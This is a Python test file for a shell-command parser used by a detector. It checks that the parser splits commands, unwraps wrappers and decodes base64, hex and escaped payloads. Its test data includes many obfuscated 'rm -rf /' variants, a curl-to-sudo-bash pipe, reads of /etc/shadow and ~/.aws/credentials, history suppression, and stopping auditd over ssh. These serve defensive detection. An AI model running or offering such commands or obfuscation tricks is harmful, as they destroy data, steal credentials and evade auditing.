"""Shell parser: splitting, unquoting, wrappers, payload decoding, and bounds under any input."""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from detectors.parsing.shell import MAX_COMMANDS, MAX_INPUT, _parse, parse_shell


def progs(text: str) -> list[str]:
    return [c.program for c in parse_shell(text).commands]


def texts(text: str) -> list[str]:
    return [c.text for c in parse_shell(text).commands]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("a; b && c || d & e", ["a", "b", "c", "d", "e"]),
        ("a | b |& c", ["a", "b", "c"]),
        ("a\nb", ["a", "b"]),
        ("(cd /tmp && make) || { echo no; }", ["cd", "make", "echo"]),
        ("if true; then rm x; fi", ["true", "rm"]),
        ("echo ok # rm -rf /", ["echo"]),
    ],
)
def test_splits_on_operators(line: str, expected: list[str]) -> None:
    assert progs(line) == expected


def test_pipeline_neighbours() -> None:
    cmds = parse_shell("curl -s http://x | sudo bash -s").commands
    assert (cmds[0].program, cmds[0].pipe_to) == ("curl", "bash")
    assert (cmds[1].pipe_from, cmds[1].wrappers) == ("curl", ("sudo",))


@pytest.mark.parametrize(
    "line",
    [
        "r''m -rf /",
        'r""m -rf /',
        "\\rm -rf /",
        '"rm" -rf /',
        "$'\\x72\\x6d' -rf /",
        "$'\\162\\155' -rf /",
        "r$@m -rf /",
        "/usr/bin/rm -rf /",
        "sudo -u root -E rm -rf /",
        "env -i PATH=/bin nohup timeout -s KILL 10s nice -n 5 rm -rf /",
        "xargs -0 -n1 rm -rf /",
        "bash -c 'rm -rf /'",
        'sh -lc "rm -rf /"',
        "su -c 'rm -rf /' root",
        "eval 'rm -rf /'",
        "env -S 'rm -rf /'",
        "command rm -rf /",
        "busybox rm -rf /",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "base64 -d <<< cm0gLXJmIC8= | bash",
        "echo 726d202d7266202f | xxd -r -p | sh",
        "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
        "find . -exec rm -rf / \\;",
        "kubectl exec -it pod -- rm -rf /",
        "docker exec -u root web rm -rf /",
    ],
)
def test_tricks_resolve_to_rm(line: str) -> None:
    cmds = parse_shell(line).commands
    assert any(c.program == "rm" and "/" in c.args and "-rf" in c.args for c in cmds), texts(line)


def test_ifs_splits_words() -> None:
    (cmd,) = parse_shell("cat${IFS}/etc/shadow").commands
    assert (cmd.program, cmd.args) == ("cat", ("/etc/shadow",))


def test_substitutions_become_commands_with_spans() -> None:
    line = "echo $(cat ~/.aws/credentials) `whoami`"
    cmds = parse_shell(line).commands
    by = {c.program: c for c in cmds}
    assert by["cat"].origin == "subst"
    assert line[by["cat"].span[0] : by["cat"].span[1]] == "cat ~/.aws/credentials"
    assert line[by["whoami"].span[0] : by["whoami"].span[1]] == "whoami"
    assert by["echo"].span == (0, len(line))


def test_spans_locate_commands() -> None:
    line = "ls -la && sudo rm -rf / ; echo done"
    spans = {c.program: line[c.span[0] : c.span[1]] for c in parse_shell(line).commands}
    assert spans == {"ls": "ls -la", "rm": "sudo rm -rf /", "echo": "echo done"}


def test_heredoc_to_shell_is_parsed() -> None:
    cmds = parse_shell("bash <<'EOF'\nrm -rf /var/log\nEOF\necho after").commands
    assert [(c.program, c.origin) for c in cmds] == [
        ("bash", "line"),
        ("rm", "heredoc"),
        ("echo", "line"),
    ]


def test_redirects_and_assignments() -> None:
    (cmd,) = parse_shell("HISTFILE=/dev/null FOO=1 echo x >> ~/.bashrc 2>&1").commands
    assert cmd.assignments == ("HISTFILE=/dev/null", "FOO=1")
    assert [(r.op, r.target) for r in cmd.redirects] == [(">>", "~/.bashrc"), (">&", "1")]


def test_ssh_remote_command_kept_and_parsed() -> None:
    cmds = parse_shell("ssh -i k.pem ubuntu@10.0.0.5 'sudo systemctl stop auditd'").commands
    assert {c.program for c in cmds} == {"ssh", "systemctl"}


def test_decoded_data_not_run_is_not_a_command() -> None:
    parsed = parse_shell("echo aGVsbG8gd29ybGQ= | base64 -d")
    assert progs("echo aGVsbG8gd29ybGQ= | base64 -d") == ["echo", "base64"]
    assert parsed.decoded == ("hello world",)


def test_arithmetic_and_parameter_expansion_are_literal() -> None:
    assert texts("a=$(( 1 + 2 )); echo ${a}") == ["", "echo ${a}"]


def test_unterminated_quotes_do_not_crash() -> None:
    assert progs("echo \"unterminated 'quote") == ["echo"]
    assert progs("echo 'x") == ["echo"]


def test_bounds_hold_on_huge_input() -> None:
    parsed = parse_shell("a|" * 40_000)
    assert len(parsed.commands) == MAX_COMMANDS and parsed.truncated
    parsed = parse_shell("bash -c '" * 2000)
    assert parsed.truncated
    assert parse_shell("x" * (MAX_INPUT + 10)).truncated


_ALPHABET = st.sampled_from(
    [
        *"ab -|&;()<>$`'\"\\{}#\n=/*01IFS@",
        "$(",
        "<<",
        "<<<",
        "base64 -d",
        "sh -c ",
        "${IFS}",
        "$'\\x41'",
        "echo ",
        "eval ",
        "sudo ",
        "| sh",
        "xxd -r -p",
    ]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_ALPHABET, max_size=120).map("".join))
def test_never_crashes_and_stays_bounded(text: str) -> None:
    start = time.perf_counter()
    parsed = _parse(text, False)
    elapsed = time.perf_counter() - start
    assert len(parsed.commands) <= MAX_COMMANDS
    assert elapsed < 2.0  # generous: catches super-linear blow-ups, not a benchmark
    for c in parsed.commands:
        assert isinstance(c.program, str) and len(c.program) <= 256
        assert len(c.args) <= 512
        assert 0 <= c.span[0] <= c.span[1] <= len(text)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=400))
def test_arbitrary_unicode_never_crashes(text: str) -> None:
    parsed = parse_shell(text)
    assert len(parsed.commands) <= MAX_COMMANDS
